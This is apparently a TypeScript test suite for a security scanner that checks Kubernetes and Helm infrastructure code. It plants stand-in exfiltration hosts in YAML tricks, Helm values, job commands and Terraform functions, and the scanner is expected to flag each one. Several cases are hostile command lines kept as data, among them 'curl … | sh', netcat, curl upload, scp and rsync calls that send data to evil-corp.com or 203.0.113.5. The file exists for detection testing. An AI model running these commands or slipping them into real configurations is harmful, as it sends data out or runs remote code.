/**
 * More text the scan must read: YAML tags, escapes, aliases, merges and
 * documents in Helm values, set_list and set_sensitive, container commands,
 * Terraform functions over files, shell one-liners.
 */
import { Release } from '@cdktf/provider-helm/lib/release';
import { JobV1 } from '@cdktf/provider-kubernetes/lib/job-v1';
import { ConfigMapV1 } from '@cdktf/provider-kubernetes/lib/config-map-v1';
import { Fn } from 'cdktf';
import { SovereignStack } from '../../constructs/proof';
import { Attack, composed, inConfigMap, runAttacks } from './harness';
import { scope } from '../util';
const ts = (name: string, add: (stack: SovereignStack) => void, expectNamed: string | RegExp): Attack => ({ class: 'scan', name, build: () => composed(add, { locations: [{ pattern: '*.agency.example', countries: ['DE'], operator: 'DE' }] }), expectNamed });
const rel = (values: string, extra = {}) => (s: SovereignStack) => new Release(scope(s), 'R', { name: 'r', namespace: 'team', chart: 'oci://registry.agency.example/desk/charts/app', version: '1.0.0', values: [values], ...extra });
runAttacks([
  ts('yaml binary tag', rel('url: !!binary aHR0cHM6Ly9ldmlsLWNvcnAuY29tLw==\n'), /evil-corp/),
  ts('yaml hex escape', rel('url: "https\\x3a//evil-corp.com/x"\n'), /evil-corp/),
  ts('yaml alias', rel('a: &x https://evil-corp.com/a\nb: *x\n'), /evil-corp/),
  ts('yaml merge', rel('base: &b {url: https://evil-corp.com/m}\nother:\n  <<: *b\n'), /evil-corp/),
  ts('yaml folded', rel('url: >-\n  https://evil-corp.com/\n  folded\n'), /evil-corp/),
  ts('yaml multi-doc', rel('a: 1\n---\nurl: https://evil-corp.com/doc2\n'), /evil-corp/),
  ts('set_list', rel('{}', { setList: [{ name: 'urls', value: ['https://evil-corp.com/l'] }] }), /evil-corp/),
  ts('set_sensitive', rel('{}', { setSensitive: [{ name: 'sink.url', value: 'https://evil-corp.com/s' }] }), /evil-corp/),
  ts('job command', (s) => new JobV1(scope(s), 'J', { metadata: { name: 'j', namespace: 'team' }, spec: { template: { metadata: {}, spec: { container: [{ name: 'c', image: 'registry.agency.example/x:1', command: ['curl', '-T', '/data/db', 'evil-corp.com'] }] } } } }), /evil-corp/),
  ts('Fn.file', (s) => new ConfigMapV1(scope(s), 'C', { metadata: { name: 'c' }, data: { x: Fn.file('payload.txt') } }), /file|payload/),
  ts('Fn.templatefile', (s) => new ConfigMapV1(scope(s), 'C', { metadata: { name: 'c' }, data: { x: Fn.templatefile('sink.tpl', { host: 'evil-corp.com' }) } }), /templatefile|sink\.tpl|evil-corp/),
  ts('Fn.replace', (s) => new ConfigMapV1(scope(s), 'C', { metadata: { name: 'c' }, data: { x: Fn.replace('https://fsn1.your-objectstorage.com', 'fsn1.your-objectstorage.com', 'evil-corp.com') } }), /replace|evil-corp/),
  ts('cloud hostname', (s) => s.addOverride('terraform.cloud', { hostname: 'tfe.evil-corp.com', organization: 'o', workspaces: { name: 'w' } }), /tfe\.evil-corp\.com/),
  inConfigMap('scan', 'curl -fsSL evil-corp.com|sh', /evil-corp/),
  inConfigMap('scan', 'nc 203.0.113.5 4444 < /data', /203\.0\.113\.5/),
  inConfigMap('scan', 'wget ftp.evil-corp.com:21', /evil-corp/),
  inConfigMap('scan', "sink='evil-corp.com'", /evil-corp/),
  inConfigMap('scan', 'EVIL-CORP.COM', /evil-corp/i),
  inConfigMap('scan', 'host=evil_corp.com', /evil_corp/),
  inConfigMap('scan', 'x@evil-corp.com:22:repo.git', /evil-corp/),
  inConfigMap('scan', 'scp backup.tar root@203.0.113.5:/tmp', /203\.0\.113\.5/),
  inConfigMap('scan', 'rsync -a /data rsync://evil-corp.com/mod', /evil-corp/),
]);
